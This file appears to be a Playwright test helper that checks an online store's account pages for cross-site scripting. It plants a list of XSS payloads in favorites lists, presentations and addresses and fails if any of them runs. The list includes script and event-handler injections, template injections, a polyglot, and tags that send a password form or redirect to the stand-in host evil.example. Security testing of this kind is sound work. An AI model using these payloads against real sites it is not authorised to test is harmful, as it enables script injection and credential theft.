// Payloads that would do harm if a page treated them as markup, and checks for that.
import { type APIRequestContext, type BrowserContext, expect, type Page } from "@playwright/test";
import { addAddress } from "./address.ts";
import { oneProduct } from "./catalog.ts";
import { settled } from "./page.ts";

/** The payloads call `xss()` if they run. Includes short ones for fields with 20 characters. */
export const PAYLOADS = [
  "<script>xss()</script>",
  "<svg onload=xss()>",
  "<img src=x onerror=xss()>",
  '"><img src=x onerror=xss()>',
  "'><svg/onload=xss()>",
  '" autofocus onfocus=xss() x="',
  "' onmouseover=xss() '",
  "</textarea><script>xss()</script>",
  "</title></style><img src onerror=xss()>",
  "--><!--<img src=x onerror=xss()>",
  "<iframe srcdoc='<script>parent.xss()</script>'>",
  "<details open ontoggle=xss()>",
  "<body onpageshow=xss()>",
  "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
  "<a href=javascript:xss()>press</a>",
  "javascript:xss()",
  "data:text/html,<script>xss()</script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the payload
  "${xss()} {{xss()}} #{xss()} <%= xss() %>",
  "{{constructor.constructor('xss()')()}}",
  "\\u003cscript\\u003exss()\\u003c/script\\u003e",
  "&lt;img src=x onerror=xss()&gt;",
  "&#60;svg onload=xss()&#62;",
  "<scr<script>ipt>xss()</scr</script>ipt>",
  "<ScRiPt/x>xss()</sCrIpT>",
  "<b id=xss>bold</b><xss-element>",
  "<form action=//evil.example><input name=password>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example/>",
  "</script><script>xss()//",
  "\u2028xss()\u2029</script>",
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=xss() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=xss()//>\\x3e",
  "'\"--></style></script><svg onload=xss()>",
];
export const SHORT = ["<svg onload=xss()>", "<q oncopy=xss()>", '"><b id=xss>', "{{xss()}}", "'-xss()-'"];

/** Fails the test if a payload runs in this context. */
export async function guarded(context: BrowserContext): Promise<string[]> {
  const alive: string[] = [];
  await context.exposeFunction("xss", (where: string) => alive.push(`a script ran on ${where}`));
  context.on("page", (page) => {
    page.on("dialog", async (dialog) => {
      alive.push(`a dialog opened: ${dialog.message()}`);
      await dialog.dismiss();
    });
    page.on("request", (request) => {
      if (new URL(request.url()).hostname.endsWith("evil.example")) alive.push(`asked ${request.url()}`);
    });
  });
  return alive;
}

/** The traces of payloads treated as markup in the page or in this HTML. */
export async function injectedInto(page: Page, html?: string): Promise<string[]> {
  return page.evaluate((text) => {
    const place = text === undefined ? document : new DOMParser().parseFromString(text, "text/html");
    const theirs = "#xss, xss-element, base, math, form[action*=evil], [http-equiv=refresh i]";
    const isOurs = (script: HTMLScriptElement) => script.src !== "" || script.type.endsWith("json");
    const lively = [...place.querySelectorAll("*")].filter((element) =>
      [...element.attributes].some(
        ({ name, value }) =>
          name.startsWith("on") ||
          (/^(href|src|action|formaction|xlink:href)$/.test(name) &&
            /^\s*(javascript|data:text)/i.test(value)),
      ),
    );
    const scripts = [...place.querySelectorAll("script")].filter((script) => !isOurs(script));
    return [...place.querySelectorAll(theirs), ...lively, ...scripts].map(({ outerHTML }) =>
      outerHTML.slice(0, 200),
    );
  }, html);
}

export async function expectTextOnly(page: Page, alive: string[]) {
  expect(await injectedInto(page)).toEqual([]);
  expect(alive).toEqual([]);
}

export async function looked(page: Page, address: string, alive: string[]) {
  await page.goto(address);
  await settled(page);
  await expectTextOnly(page, alive);
}

/** For single-line fields, which reject line separators. */
export const oneLine = (text: string) => text.replace(/[\u2028\u2029]/g, "");

export const cut = (text: string, most: number) => [...text].slice(0, most).join("");

/** The payloads, packed into texts of at most this many characters. */
export function packed(most: number, payloads: readonly string[] = PAYLOADS): string[] {
  const texts: string[] = [];
  for (const payload of payloads.map((text) => cut(text, most))) {
    const last = texts.at(-1);
    if (last !== undefined && [...last].length + 1 + [...payload].length <= most)
      texts.splice(-1, 1, `${last} ${payload}`);
    else texts.push(payload);
  }
  return texts;
}

interface Filled {
  listId: number;
  presentationId: number;
  link: string;
  addressId: number;
}

/** Fills every text of an account's data with this payload, where the store accepts it. */
export async function fill(request: APIRequestContext, payload: string, short: string): Promise<Filled> {
  const product = await oneProduct(request);
  const post = async (path: string, data: object = {}) => {
    const answer = await request.post(path, { data });
    expect(answer.ok(), `${path} ${await answer.text()}`).toBe(true);
    return (await answer.json()) as { listId: number; presentationId: number; link: string };
  };
  const { listId } = await post("/api/myaccount/favorites/list/new", {
    name: short,
    favoriteProductIds: [product.id],
  });
  await post(`/api/myaccount/favorites/list/${listId}/product/${product.id}/update/notes`, {
    notes: payload,
  });
  const { presentationId } = await post("/api/presentations", {
    name: cut(oneLine(payload), 60),
    productIds: [product.id],
  });
  await post(`/api/presentations/${presentationId}/update`, { comment: payload });
  await post(`/api/presentations/${presentationId}/savedProducts/${product.id}/comment`, {
    comment: payload,
  });
  const { link } = await post(`/api/presentations/${presentationId}/share`);
  const line = cut(oneLine(payload), 30);
  const addressId = await addAddress(request, {
    addressTitle: line,
    firstName: line,
    lastName: line,
    company: line,
    department: line,
    jobTitle: line,
    address1: line,
    address2: line,
    city: line,
    phone: "+1 510 555 0100",
  });
  return { listId, presentationId, link, addressId };
}
